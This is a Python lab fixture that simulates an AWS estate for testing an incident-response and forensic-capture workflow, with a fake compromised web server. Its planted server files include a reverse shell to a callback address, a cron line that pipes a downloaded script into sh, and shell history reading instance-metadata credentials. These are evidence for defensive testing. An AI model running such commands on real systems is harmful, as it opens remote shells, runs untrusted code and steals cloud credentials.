"""What the response finds in AWS: the story's server in its account, and a home account with all that is deployed.

The settings are those of the stacks (deploy/response), with retention of a day and a switch that is on.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import IO, Any, Dict, List, Mapping, Optional

from lab import avml
from lab.aws import AwsAccount, AwsStandIn
from lab.story import cast
from response.plans.document import linux
from response.state_machines import definition

SERVER = cast.WEB_1
TABLE, PARAMETER, TOOLS_PARAMETER = "siem-bridge-incidents", "/siem-bridge/response", "/siem-bridge/capture-tools"
EVIDENCE, JOBS, TOOLS = (f"siem-bridge-{name}-{cast.LOG_ARCHIVE}" for name in ("evidence", "jobs", "tools"))
DOCUMENT, TOOL = "siem-bridge-volatile-linux", "avml/0.20.0/avml"
HEC_SECRET, CHANNELS = "siem-bridge/hec", "siem-bridge/channels"
UPLOAD_ROLE = "siem-bridge-upload"
MEMBER_ROLE, EXTERNAL_ID = "siem-bridge-response", "0a1b2c3d4e5f60718f1c2e9a7b6d4c3f"
#: Waits of the workflow, which are minutes, last so much less.
SCALE = 0.01
LOGS = ("cloudtrail", "vpc_flow", "route53_resolver", "waf")
#: What is on the server after the break-in: path -> content.
FILES: Mapping[str, str] = {
    "proc/meminfo": "MemTotal:         507904 kB\nMemFree: 1 kB\n",
    "proc/uptime": "864000.00 1.00\n",
    "proc/sys/kernel/random/boot_id": "5e1ec7ed-0000-4000-8000-000000000001\n",
    "proc/sys/kernel/tainted": "0\n",
    "proc/modules": "nf_tables 270336 0 - Live 0x0000000000000000\n",
    "proc/version": "Linux version 6.1.0 (gcc) #1 SMP\n",
    "proc/cmdline": "BOOT_IMAGE=/boot/vmlinuz root=/dev/nvme0n1p1\n",
    "proc/cpuinfo": "flags\t\t: fpu vme\n",
    "proc/self/mountinfo": "21 1 259:1 / / rw - xfs /dev/root rw\n",
    "proc/4242/status": "Name:\tsh\nState:\tS (sleeping)\nPPid:\t1\nUid:\t91\t91\t91\t91\nTracerPid:\t0\n",
    "proc/4242/cmdline": f"/bin/sh\0-i\0>&\0/dev/tcp/{cast.CALLBACK_IP}/4444\0",
    "etc/os-release": 'NAME="Amazon Linux"\n',
    "etc/crontab": f"* * * * * tomcat curl -s http://{cast.CALLBACK_HOST}/x | sh\n",
    "home/tomcat/.bash_history": "id\ncurl http://169.254.169.254/latest/meta-data/iam/security-credentials/\n",
    "boot/System.map-6.1.0": "ffffffff81000000 T _text\n",
}


class Estate:
    """Both accounts and the functions; a context manager. ``engine_url``: the raw store, ``hec_url``: Splunk's door."""

    def __init__(self, aws: AwsStandIn, engine_url: str, logs_bucket: str, hec_url: str, hec_token: str) -> None:
        self.production = AwsAccount(aws, cast.PRODUCTION)
        self.home = AwsAccount(aws, cast.LOG_ARCHIVE)
        self._server()
        key = self.home.client("kms", cast.REGION).create_key(KeySpec="ECC_NIST_P256", KeyUsage="SIGN_VERIFY")
        copies = self.production.client("kms", cast.REGION).create_key()["KeyMetadata"]["Arn"]
        self.settings: Dict[str, str] = {
            "TABLE": TABLE, "PARAMETER": PARAMETER, "BUCKET": EVIDENCE, "LOCK_MODE": "governance", "LOCK_DAYS": "1",
            "ROLE_NAME": MEMBER_ROLE, "EXTERNAL_ID": EXTERNAL_ID, "STATE_MACHINE": self._machine_arn,
            "STATUS_HEC_URL": hec_url, "STATUS_HEC_SECRET": HEC_SECRET, "CHANNELS": CHANNELS,
            "DOCUMENT": DOCUMENT, "UPLOAD_ROLE": self.home.role(UPLOAD_ROLE), "JOBS_BUCKET": JOBS,
            "TOOLS_BUCKET": TOOLS, "TOOLS_PARAMETER": TOOLS_PARAMETER, "SIGNING_KEY": key["KeyMetadata"]["Arn"],
            "SNAPSHOT_KEY": copies, "FORENSICS_ACCOUNT": cast.LOG_ARCHIVE, "URL": engine_url,
            "LOGS_REGION": "us-east-1", **{f"LOGS_{log.upper()}": f"s3://{logs_bucket}/AWSLogs/" for log in LOGS},
        }  # fmt: skip
        self._furnish(hec_token)
        self._process: Optional[subprocess.Popen[str]] = None
        self._log: Optional[IO[str]] = None
        self.url = ""

    @property
    def _machine_arn(self) -> str:
        return f"arn:aws:states:{cast.REGION}:{cast.LOG_ARCHIVE}:stateMachine:siem-bridge-respond"

    def serve(self, log: Path) -> None:
        """Start the functions; what they log is in a file."""
        self._log = log.open("w", encoding="utf-8")
        named = {f"AWS_SIEM_BRIDGE_{name}": value for name, value in self.settings.items()}
        self._process = subprocess.Popen(
            [sys.executable, "-m", "lab.demo.response.functions"],
            env={**os.environ, **self.home.environment(cast.REGION), **named},
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=self._log, text=True,
            start_new_session=True,  # Ctrl-C is for the demo, which then stops it
        )  # fmt: skip
        assert self._process.stdout
        self.url = self._process.stdout.readline().strip()
        self.home.serve_functions(self.url)
        self.home.scale_time(SCALE)

    def stop(self) -> None:
        """End the functions."""
        if self._process is None:
            return
        assert self._process.stdin and self._process.stdout and self._log
        self._process.stdin.close()
        try:
            self._process.wait(20)
        except subprocess.TimeoutExpired:
            self._process.kill()
            self._process.wait()
        self._process.stdout.close()
        self._log.close()

    def broken(self) -> str:
        """Return why the workflow ended without saying so, empty where it did not."""
        steps = self.home.client("stepfunctions", cast.REGION)
        for each in steps.list_executions(stateMachineArn=self._machine_arn, statusFilter="FAILED")["executions"]:
            found = steps.describe_execution(executionArn=each["executionArn"])
            if found.get("error") != "NotDone":
                return f"{found.get('error')}: {found.get('cause')}"
        return ""

    def groups(self) -> Dict[str, List[str]]:
        """Return interface of the server -> its security groups, as AWS says."""
        filters = [{"Name": "attachment.instance-id", "Values": [SERVER.id]}]
        found = self._ec2.describe_network_interfaces(Filters=filters)["NetworkInterfaces"]
        return {each["NetworkInterfaceId"]: sorted(group["GroupId"] for group in each["Groups"]) for each in found}

    def ways(self) -> int:
        """Return how many rules of the server's groups let anything in or out, as AWS says."""
        ids = sorted({group for groups in self.groups().values() for group in groups})
        found = self._ec2.describe_security_groups(GroupIds=ids)["SecurityGroups"]
        return sum(len(each["IpPermissions"]) + len(each["IpPermissionsEgress"]) for each in found)

    @property
    def _ec2(self) -> Any:
        return self.production.client("ec2", cast.REGION)

    def _server(self) -> None:
        """Start the story's web server: its addresses, a role, two interfaces, SSM's agent and ways to it."""
        ec2 = self._ec2
        self.production.choose_ids(cast.REGION, cast.VPC, SERVER.id, SERVER.eni)
        vpc = ec2.create_vpc(CidrBlock="10.20.0.0/16")["Vpc"]["VpcId"]
        zone = f"{cast.REGION}a"
        subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.20.11.0/24", AvailabilityZone=zone)["Subnet"]["SubnetId"]
        for service, kind in (("ssm", "Interface"), ("ssmmessages", "Interface"), ("s3", "Gateway")):
            more = {"SubnetIds": [subnet]} if kind == "Interface" else {}
            name = f"com.amazonaws.{cast.REGION}.{service}"
            ec2.create_vpc_endpoint(VpcId=vpc, ServiceName=name, VpcEndpointType=kind, **more)
        group = ec2.create_security_group(GroupName="shop-web", Description="shop-web", VpcId=vpc)["GroupId"]
        world = {"IpProtocol": "tcp", "FromPort": 8080, "ToPort": 8080, "IpRanges": [{"CidrIp": "10.20.0.0/16"}]}
        ec2.authorize_security_group_ingress(GroupId=group, IpPermissions=[world])
        filters = [{"Name": "architecture", "Values": ["x86_64"]}]
        images = ec2.describe_images(Filters=filters)["Images"]
        image = next(each["ImageId"] for each in images if not each.get("Platform"))
        ec2.run_instances(
            ImageId=image, MinCount=1, MaxCount=1, InstanceType="t3.nano", SubnetId=subnet, SecurityGroupIds=[group],
            PrivateIpAddress=SERVER.private_ip, UserData="#!/bin/sh\nsystemctl enable --now tomcat\n",
            TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": SERVER.name}]}],
        )  # fmt: skip
        second = ec2.create_network_interface(SubnetId=subnet, Groups=[group])["NetworkInterface"]["NetworkInterfaceId"]
        ec2.attach_network_interface(NetworkInterfaceId=second, InstanceId=SERVER.id, DeviceIndex=1)
        self._role()
        root = Path(self.production.managed(cast.REGION, SERVER.id))
        for path, text in FILES.items():
            (root / path).parent.mkdir(parents=True, exist_ok=True)
            (root / path).write_text(text)

    def _role(self) -> None:
        iam, name = self.production.client("iam", "us-east-1"), SERVER.role.name
        iam.create_role(RoleName=name, AssumeRolePolicyDocument=json.dumps(_trust("ec2.amazonaws.com")))
        arn = iam.create_instance_profile(InstanceProfileName=name)["InstanceProfile"]["Arn"]
        iam.add_role_to_instance_profile(InstanceProfileName=name, RoleName=name)
        self._ec2.associate_iam_instance_profile(InstanceId=SERVER.id, IamInstanceProfile={"Arn": arn})

    def _furnish(self, hec_token: str) -> None:
        """Make what is deployed in the home account, and the capture document in the server's."""
        client = self.home.client
        s3, ssm, secrets = (client(name, cast.REGION) for name in ("s3", "ssm", "secretsmanager"))
        place = {"LocationConstraint": cast.REGION}
        s3.create_bucket(Bucket=EVIDENCE, CreateBucketConfiguration=place, ObjectLockEnabledForBucket=True)
        for name in (JOBS, TOOLS):
            s3.create_bucket(Bucket=name, CreateBucketConfiguration=place)
        s3.put_object(Bucket=TOOLS, Key=TOOL, Body=avml.tool())
        tool = {"key": TOOL, "sha256": hashlib.sha256(avml.tool()).hexdigest(), "version": "0.20.0"}
        ssm.put_parameter(Name=TOOLS_PARAMETER, Type="String", Value=json.dumps({"x86_64": tool}))
        ssm.put_parameter(Name=PARAMETER, Type="String", Value=json.dumps({"mode": "live"}))
        self.production.client("ssm", cast.REGION).create_document(
            Content=json.dumps(linux()["document"]), Name=DOCUMENT, DocumentType="Command", DocumentFormat="JSON"
        )
        topic = client("sns", cast.REGION).create_topic(Name="responders")["TopicArn"]
        known = {"channels": [{"kind": "sns", "name": "responders", "topic": topic}]}
        secrets.create_secret(Name=CHANNELS, SecretString=json.dumps(known))
        secrets.create_secret(Name=HEC_SECRET, SecretString=hec_token)
        client("dynamodb", cast.REGION).create_table(
            TableName=TABLE, KeySchema=[{"AttributeName": "pk", "KeyType": "HASH"}], BillingMode="PAY_PER_REQUEST",
            AttributeDefinitions=[{"AttributeName": "pk", "AttributeType": "S"}],
        )  # fmt: skip
        names = definition.functions(definition.text())
        arns = {name: f"arn:aws:lambda:{cast.REGION}:{cast.LOG_ARCHIVE}:function:{name}" for name in names}
        client("stepfunctions", cast.REGION).create_state_machine(
            name=self._machine_arn.rpartition(":")[2], definition=definition.rendered(arns),
            roleArn=self.home.role("siem-bridge-workflow"),
        )  # fmt: skip


def _trust(service: str) -> Dict[str, Any]:
    allowed = {"Effect": "Allow", "Principal": {"Service": service}, "Action": "sts:AssumeRole"}
    return {"Version": "2012-10-17", "Statement": [allowed]}
